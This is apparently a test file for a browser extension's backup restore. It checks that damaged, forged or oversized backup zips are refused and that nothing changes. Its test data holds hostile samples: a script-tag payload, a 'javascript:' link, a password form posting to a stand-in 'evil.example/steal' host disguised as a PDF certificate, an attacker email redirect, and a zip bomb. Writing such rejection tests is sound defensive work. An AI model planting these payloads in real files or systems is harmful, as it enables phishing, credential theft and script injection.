// Backups that must be refused — damaged, cut short, from a newer version, tampered with — each with
// a clear message, and with nothing changed; and a restore that runs out of room half-way changes nothing.
import { unzipSync, zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { browser } from 'wxt/browser';
import { DB_VERSION, openStore } from '@/utils/store/db';
import { applyRestore, createBackup, prepareRestore, readBackupFile, RESTORE_NO_ROOM } from '@/utils/backup/store';
import { BackupError, INDEX_PATH, type BackupIndex } from '@/utils/backup/format';
import { sha256Hex } from '@/utils/bytes';
import { sampleRecord } from '../fixtures/db/samples';
import { zipLevelled } from '../fixtures/zip';
import { failWrite, type QuotaFake } from '../store/quota-fake';
import { everything, seedEverything, wipeEverything } from './helpers';

let good: Uint8Array;
let before: unknown;
let fake: QuotaFake | null = null;

beforeEach(async () => {
  await seedEverything();
  good = (await createBackup(new Date('2026-11-28T10:00:00Z'))).zip;
  // What is held now differs from the backup, so "nothing changed" is a real check.
  await (await openStore()).put('records', sampleRecord(42, { course: 'Prevent at UCL' }));
  await browser.storage.local.set({ profile: { ...((await browser.storage.local.get('profile')).profile as object), organisation: 'Changed since' } });
  before = await everything();
});
afterEach(async () => {
  fake?.restore();
  fake = null;
  await wipeEverything();
});

const enc = new TextEncoder();
const dec = new TextDecoder();

/** Rewrites files inside the zip; `rehash` keeps the index's sizes and checksums in step (a careful forger). */
async function edit(change: (files: Record<string, Uint8Array>, index: BackupIndex) => void, rehash = false): Promise<Uint8Array> {
  const files = unzipSync(good);
  const index = JSON.parse(dec.decode(files[INDEX_PATH])) as BackupIndex;
  change(files, index);
  if (rehash) {
    for (const f of index.files) {
      if (!files[f.path]) continue;
      f.size = files[f.path]!.length;
      f.sha256 = await sha256Hex(files[f.path]!);
    }
  }
  files[INDEX_PATH] = enc.encode(JSON.stringify(index));
  return zipSync(files);
}

async function refused(bytes: Uint8Array, message: RegExp): Promise<void> {
  const error = await prepareRestore(bytes).then(applyRestore).then(() => null, (e: unknown) => e);
  expect(error, 'restored when it should have been refused').toBeInstanceOf(BackupError);
  expect((error as Error).message).toMatch(message);
  expect(await everything()).toEqual(before);
}

describe('refused backups change nothing', () => {
  it('an empty file', () => refused(new Uint8Array(), /The file is empty/));

  it('a file that is not a zip', () => refused(enc.encode('Hello, I am a spreadsheet, honest.'), /not a Mandatory Training Companion backup/));

  it('a zip that is not a backup (an evidence pack, say)', () => refused(zipSync({ 'manifest.json': enc.encode('{}'), 'summary.html': enc.encode('<p>') }), /not a Mandatory Training Companion backup/));

  it('a backup cut short (an interrupted download)', async () => {
    for (const keep of [0.3, 0.9, 0.999]) await refused(good.slice(0, Math.floor(good.length * keep)), /damaged or incomplete/);
  });

  it('a backup with a byte flipped inside a certificate', async () => {
    const at = findBytes(good, enc.encode('%PDF-1.4'));
    expect(at).toBeGreaterThan(0);
    const bad = good.slice();
    bad[at + 3] = bad[at + 3]! ^ 0xff;
    await refused(bad, /changed or damaged since it was made: files\/\d+ does not match its checksum/);
  });

  it('a backup with a byte changed inside its index (the settings): the zip’s CRC, which fflate does not check', async () => {
    // The index stored, not deflated, so one letter of a course name can be changed and still unpack.
    const stored = zipLevelled(unzipSync(good), (name) => name === INDEX_PATH);
    const at = findBytes(stored, enc.encode('Information Security'));
    expect(at).toBeGreaterThan(0);
    const bad = stored.slice();
    bad[at + 19] = 'm'.charCodeAt(0);
    expect(dec.decode(unzipSync(bad)[INDEX_PATH])).toContain('Information Securitm'); // what fflate hands over
    await refused(bad, /damaged or incomplete .*\(Its index does not match its checksum\.\)/);
    // The same zip unchanged restores.
    await expect(prepareRestore(stored)).resolves.toBeTruthy();
  });

  it('a backup from a newer version of the extension', async () => {
    await refused(await edit((_, index) => void (index.formatVersion = 2 as 1)), /newer version of the extension/);
    await refused(await edit((_, index) => void (index.schemaVersion = DB_VERSION + 1)), /newer version of the extension/);
  });

  it('a backup whose index is not what we write', async () => {
    await refused(zipSync({ ...unzipSync(good), [INDEX_PATH]: enc.encode('{"format":') }), /damaged or incomplete .*\(Its index cannot be read\.\)/);
    await refused(await edit((_, index) => void ((index as { stores: unknown }).stores = 'all of them')), /damaged or incomplete.*stores/);
  });

  it('a record edited after the backup was made (checksum no longer matches)', async () => {
    const bad = await edit((files) => {
      files['stores/records.json'] = enc.encode(dec.decode(files['stores/records.json']).replace('"completedOn":"2021', '"completedOn":"2029'));
    });
    await refused(bad, /stores\/records\.json does not match its checksum/);
  });

  it('a record edited, checksums forged: refused by the record rules, naming the field', async () => {
    const bad = await edit((files) => {
      files['stores/records.json'] = enc.encode(dec.decode(files['stores/records.json']).replace('"completedOn":"2021-02-11"', '"completedOn":"11/02/2021"'));
    }, true);
    await refused(bad, /training records are not valid \(training record \d+, completedOn: /);
  });

  it('an evidence file swapped for another size, checksums forged: refused', async () => {
    const bad = await edit((files, index) => {
      const blob = index.files.find((f) => f.path.startsWith('files/'))!;
      files[blob.path] = enc.encode('something else entirely, and longer than before');
    }, true);
    await refused(bad, /evidence files .* are not valid \(evidence file \d+, size: the file is not the size recorded\)/);
  });

  it('files added to the zip that the index does not list', () => refused(
    (() => {
      const files = unzipSync(good);
      files['files/999999'] = enc.encode('<script>alert(1)</script>');
      return zipSync(files);
    })(),
    /holds files its index does not list \(files\/999999\)/,
  ));

  it('a store missing, or one this version does not know', async () => {
    await refused(await edit((_, index) => void (index.stores = index.stores.filter((s) => s.name !== 'evidence'))), /belongs to nothing|no evidence files/);
    await refused(
      await edit((files, index) => {
        files['stores/mystery.json'] = enc.encode('[]');
        index.stores.push({ name: 'mystery', file: 'stores/mystery.json', count: 0, keyPath: null, autoIncrement: false });
        index.files.push({ path: 'stores/mystery.json', size: 2, sha256: '' });
      }, true),
      /does not know \(mystery\)/,
    );
  });

  it('settings in the backup that are not valid', async () => {
    await refused(await edit((_, index) => void ((index.profile as { mailbox: string }).mailbox = 'not an email')), /settings in the backup are not valid/);
    // Valid by the schema, wrong by the rules a settings file must follow: a portal that is not LearnUpon.
    await refused(await edit((_, index) => void ((index.profile as { portalHost: string }).portalHost = 'login.evil.example')), /settings in the backup are not valid: .*portalHost: must be a LearnUpon portal/s);
    // A course link the extension would never offer: refused, not restored with the link quietly left out.
    await refused(
      await edit((_, index) => void ((index.profile as { courses: { url?: string }[] }).courses[0]!.url = 'javascript:alert(1)')),
      /settings in the backup are not valid: The link of “Information Security Training” was left out/,
    );
  });
});

/** A store file's entries, edited as JSON; `rehash` in edit() keeps the index in step (a careful forger). */
function editStore(files: Record<string, Uint8Array>, name: string, change: (entries: { key?: unknown; value: Record<string, unknown> }[]) => void): void {
  const entries = JSON.parse(dec.decode(files[`stores/${name}.json`])) as { key?: unknown; value: Record<string, unknown> }[];
  change(entries);
  files[`stores/${name}.json`] = enc.encode(JSON.stringify(entries));
}

describe('every value restored is checked by its declaration (utils/data/)', () => {
  it('a crafted saved detail (the evidence not collected) is refused, naming it', async () => {
    // Restored unchecked, this made “Export evidence” throw.
    const bad = await edit((files) => editStore(files, 'meta', (entries) => void (entries.find((e) => e.key === 'collect-failures')!.value = 'boom' as never)), true);
    await refused(bad, /saved details .* are not valid \(saved detail “collect-failures”: /);
  });

  it('a saved detail this version does not know is refused, naming it', async () => {
    const bad = await edit((files, index) => {
      editStore(files, 'meta', (entries) => void entries.push({ key: 'redirect-email-to', value: 'attacker@evil.example' as never }));
      index.stores.find((st) => st.name === 'meta')!.count += 1;
    }, true);
    await refused(bad, /saved detail “redirect-email-to”: this version of the extension does not know it/);
  });

  it('the Team report, the marks and the time log are checked too', async () => {
    await refused(await edit((files) => editStore(files, 'timeLog', (entries) => void (entries[0]!.value.trackedMs = -5)), true), /time log entry 1, trackedMs: /);
    await refused(await edit((files) => editStore(files, 'teamPeople', (entries) => void (entries[0]!.value.availability = 'fired')), true), /team mark 1, availability: /);
    await refused(await edit((files) => editStore(files, 'teamReport', (entries) => void (entries[0]!.value.rows = 'all of them')), true), /team report “current”, rows: /);
    await refused(await edit((files) => editStore(files, 'problems', (entries) => void (entries[0]!.value.title = { html: '<b>' })), true), /troubleshooting log entry 1, title: /);
  });

  it('settings in the backup: an unknown key, or the time log switch not in form, is refused, naming it', async () => {
    await refused(await edit((_, index) => void (index.settings = { ...index.settings, mailboxOverride: 'attacker@evil.example' })), /the setting “mailboxOverride” is not one this version of the extension knows/);
    await refused(await edit((_, index) => void (index.settings = { ...index.settings, timeLog: { enabled: 'yes', name: '' } })), /the setting “timeLog” is not valid \(enabled: /);
    await refused(await edit((_, index) => void (index.settings = { ...index.settings, 'dismissed-alerts': {} })), /the setting “dismissed-alerts” is not one this version/);
  });

  it('a copy the extension rebuilds, or this device’s own state, in a backup is dropped: never restored', async () => {
    const bad = await edit((files, index) => {
      editStore(files, 'meta', (entries) => {
        entries.push({ key: 'records-cache', value: { version: 1, records: [] } as never });
        entries.push({ key: 'time-log-accepted-until', value: 8_000_000_000_000 as never });
      });
      index.stores.find((st) => st.name === 'meta')!.count += 2;
    }, true);
    await applyRestore(await prepareRestore(bad));
    const db = await openStore();
    expect(await db.get('meta', 'time-log-accepted-until')).toBeUndefined();
    expect(await db.get('meta', 'records-cache')).toBeUndefined();
  });
});

describe('evidence files are what they say they are (issue 14: a restored backup planted a web page as a certificate)', () => {
  /** The certificate's file replaced by other bytes (checksums forged), and its item edited to match. */
  async function swapCertificate(bytes: Uint8Array, item: (value: Record<string, unknown>) => void = () => undefined): Promise<Uint8Array> {
    return edit((files) => {
      editStore(files, 'evidence', (entries) => {
        const cert = entries.find((e) => e.value.kind === 'certificate')!;
        const data = cert.value.data as { file: string };
        files[data.file] = bytes;
        cert.value.size = bytes.length;
        item(cert.value);
      });
    }, true);
  }

  it('a sign-in page stored as a PDF certificate: refused, naming the entry', async () => {
    const page = enc.encode('<!doctype html><html><body><form action="https://evil.example/steal"><input type="password"></form></body></html>');
    await refused(await swapCertificate(page), /evidence files .* are not valid \(evidence file 1 \(“UCL Fire Safety certificate\.pdf”\): the file is not really “application\/pdf” \(its contents are a web page\)\)/);
  });

  it('a web page stated as a web page, or a PDF whose file says it is HTML: refused', async () => {
    const pdf = enc.encode('%PDF-1.4\n%%EOF\n');
    await refused(await swapCertificate(pdf, (v) => void (v.contentType = 'text/html')), /a certificate cannot be of type “text\/html”/);
    await refused(await swapCertificate(pdf, (v) => void ((v.data as { type: string }).type = 'text/html')), /the file says it is “text\/html”, not “application\/pdf”/);
  });
});

describe('what a backup may unpack to is checked before anything is unpacked', () => {
  it('a file whose zip directory claims more than the 2 GB ceiling: refused', async () => {
    const claimed = 2_500_000_000;
    const bad = await edit((_, index) => void (index.files.find((f) => f.path === 'stores/records.json')!.size = claimed));
    // The central directory's "uncompressed size" of that entry, set to the same claim.
    const name = enc.encode('stores/records.json');
    const view = new DataView(bad.buffer, bad.byteOffset, bad.byteLength);
    for (let i = 0; i < bad.length - 46; i++) {
      if (view.getUint32(i, true) !== 0x02014b50) continue;
      const nameLength = view.getUint16(i + 28, true);
      if (nameLength === name.length && dec.decode(bad.subarray(i + 46, i + 46 + nameLength)) === 'stores/records.json') view.setUint32(i + 24, claimed, true);
    }
    await refused(bad, /It would unpack to 2\.3 GB; a backup holds at most 2\.0 GB/);
  });

  it('one entry far out of proportion to its size in the zip (a “zip bomb”): refused', async () => {
    const bad = await edit((files) => void (files['stores/problems.json'] = enc.encode(`[${' '.repeat(30_000_000)}]`)), true);
    await refused(bad, /stores\/problems\.json would unpack to 29 MB from \d+ KB, far more than a backup’s files ever do/);
  });

  it('a chosen file too large to be a backup is refused by its size, before it is read', async () => {
    const huge = { size: 3 * 1024 ** 3, arrayBuffer: () => Promise.reject(new Error('read')) } as unknown as Blob;
    await expect(readBackupFile(huge)).rejects.toThrow(/The file is 3\.0 GB, too large to be a backup \(a backup is at most 2\.0 GB\)/);
    await expect(readBackupFile(new Blob([]))).rejects.toThrow(/The file is empty/);
  });
});

describe('running out of room while restoring', () => {
  it.each(['request', 'throw'] as const)('the disk fills half-way (%s): the message says so and nothing changed', async (how) => {
    const prepared = await prepareRestore(good);
    fake = failWrite(6, how);
    const error = await applyRestore(prepared).then(() => null, (e: unknown) => e);
    expect(fake.fired()).toBe(true);
    fake.restore();
    expect((error as Error).message).toBe(RESTORE_NO_ROOM);
    expect(await everything()).toEqual(before);
  });
});

function findBytes(haystack: Uint8Array, needle: Uint8Array): number {
  outer: for (let i = 0; i <= haystack.length - needle.length; i++) {
    for (let j = 0; j < needle.length; j++) if (haystack[i + j] !== needle[j]) continue outer;
    return i;
  }
  return -1;
}
